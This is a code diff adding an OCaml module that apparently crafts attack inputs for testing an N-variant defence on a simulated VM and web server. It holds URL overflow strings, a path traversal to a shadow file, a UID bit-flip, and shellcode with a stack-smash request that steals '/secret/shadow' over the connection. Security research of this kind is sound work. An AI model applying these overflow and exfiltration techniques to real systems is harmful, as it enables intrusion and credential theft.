@@ -1,0 +1,128 @@
+module Word = Nv_vm.Word
+module Isa = Nv_vm.Isa
+module Image = Nv_vm.Image
+module Memory = Nv_vm.Memory
+module Syscall = Nv_os.Syscall
+module Monitor = Nv_core.Monitor
+module Nsystem = Nv_core.Nsystem
+
+let shadow_marker = "$6$salt$"
+
+let url_size = Nv_httpd.Httpd_source.url_buffer_size
+
+let null_overflow_url () = "/" ^ String.make (url_size - 1) 'A'
+
+let partial_overwrite_url ~low_byte =
+  "/" ^ String.make (url_size - 1) 'A' ^ String.make 1 low_byte
+
+let three_byte_overwrite_url ~low_bytes =
+  if String.length low_bytes <> 3 then invalid_arg "three_byte_overwrite_url: need 3 bytes";
+  if String.contains low_bytes '\000' then
+    invalid_arg "three_byte_overwrite_url: NUL cannot travel through strcpy";
+  "/" ^ String.make (url_size - 1) 'A' ^ low_bytes
+
+let traversal_url = "/../../secret/shadow"
+
+let uid_symbol_addr loaded = Image.abs_symbol loaded "worker_uid"
+
+let flip_stored_uid_bit ~bit ~value sys =
+  if bit < 0 || bit > 31 then invalid_arg "flip_stored_uid_bit: bit out of range";
+  let monitor = Nsystem.monitor sys in
+  for i = 0 to Monitor.variant_count monitor - 1 do
+    let loaded = Monitor.loaded monitor i in
+    let addr = uid_symbol_addr loaded in
+    let current = Memory.load_word loaded.Image.memory addr in
+    let mask = 1 lsl bit in
+    let updated = if value then current lor mask else current land lnot mask land Word.max_value in
+    Memory.store_word loaded.Image.memory addr updated
+  done
+
+let read_stored_uid sys ~variant =
+  let loaded = Monitor.loaded (Nsystem.monitor sys) variant in
+  Memory.load_word loaded.Image.memory (uid_symbol_addr loaded)
+
+(* ------------------------------------------------------------------ *)
+(* Stack smash + code injection                                        *)
+(* ------------------------------------------------------------------ *)
+
+(* check_auth's frame: [int q] at fp-4, [char token[32]] at fp-36, so
+   the copied token reaches the saved frame pointer after 36 bytes and
+   the return address after 40. The return address's high byte is 0x00
+   for variant-0 addresses (base 0x00010000), conveniently supplied by
+   strcpy's terminating NUL. *)
+let filler_to_saved_fp = 36
+
+let conn_fd = 3 (* fds 0-2 are preopened; the first accept yields 3 *)
+
+let encode_instrs ~tag instrs =
+  let buf = Buffer.create (List.length instrs * Isa.instr_size) in
+  List.iter (fun i -> Buffer.add_bytes buf (Isa.encode ~tag i)) instrs;
+  Buffer.contents buf
+
+let shellcode ~tag ~path_addr ~scratch_addr =
+  encode_instrs ~tag
+    [
+      (* fd = open(path, O_RDONLY) *)
+      Isa.Mov (1, Isa.Imm path_addr);
+      Isa.Mov (2, Isa.Imm 0);
+      Isa.Mov (0, Isa.Imm Syscall.sys_open);
+      Isa.Syscall;
+      (* n = read(fd, scratch, 256) *)
+      Isa.Mov (1, Isa.Reg 0);
+      Isa.Mov (2, Isa.Imm scratch_addr);
+      Isa.Mov (3, Isa.Imm 256);
+      Isa.Mov (0, Isa.Imm Syscall.sys_read);
+      Isa.Syscall;
+      (* write(conn, scratch, n) *)
+      Isa.Mov (3, Isa.Reg 0);
+      Isa.Mov (1, Isa.Imm conn_fd);
+      Isa.Mov (2, Isa.Imm scratch_addr);
+      Isa.Mov (0, Isa.Imm Syscall.sys_write);
+      Isa.Syscall;
+      (* exit(0) *)
+      Isa.Mov (1, Isa.Imm 0);
+      Isa.Mov (0, Isa.Imm Syscall.sys_exit);
+      Isa.Syscall;
+    ]
+
+let code_injection_request sys ~tag =
+  let loaded = Monitor.loaded (Nsystem.monitor sys) 0 in
+  let reqbuf_addr = Image.abs_symbol loaded "reqbuf" in
+  (* Lay the injected code at a fixed offset past the request line, and
+     the path string and scratch area after it. Bump the offset if any
+     address byte the URL must carry would be zero or a space. *)
+  let usable_byte b = b <> 0x00 && b <> Char.code ' ' in
+  let choose_offset () =
+    let rec scan off =
+      if off > 256 then invalid_arg "code_injection_request: no usable offset";
+      let addr = reqbuf_addr + off in
+      if usable_byte (Word.byte addr 0) && usable_byte (Word.byte addr 1) then off
+      else scan (off + 8)
+    in
+    scan 96
+  in
+  let code_offset = choose_offset () in
+  let code_addr = reqbuf_addr + code_offset in
+  let code_len = 17 * Isa.instr_size in
+  let path_offset = code_offset + code_len in
+  let path_addr = reqbuf_addr + path_offset in
+  let scratch_addr = reqbuf_addr + 640 in
+  let code = shellcode ~tag ~path_addr ~scratch_addr in
+  assert (String.length code = code_len);
+  (* URL: query-string token = filler + fake saved fp + the low three
+     bytes of the code address (the fourth byte, 0x00, comes from the
+     copy's terminator). *)
+  let token =
+    String.make filler_to_saved_fp 'B'
+    ^ "FPFP"
+    ^ Printf.sprintf "%c%c%c"
+        (Char.chr (Word.byte code_addr 0))
+        (Char.chr (Word.byte code_addr 1))
+        (Char.chr (Word.byte code_addr 2))
+  in
+  assert (Word.byte code_addr 3 = 0);
+  let request_line = Printf.sprintf "GET /x?%s HTTP/1.0\r\n" token in
+  let line_len = String.length request_line in
+  if line_len > code_offset then invalid_arg "code_injection_request: request line too long";
+  let padding = String.make (code_offset - line_len) 'P' in
+  request_line ^ padding ^ code ^ "/secret/shadow\000"
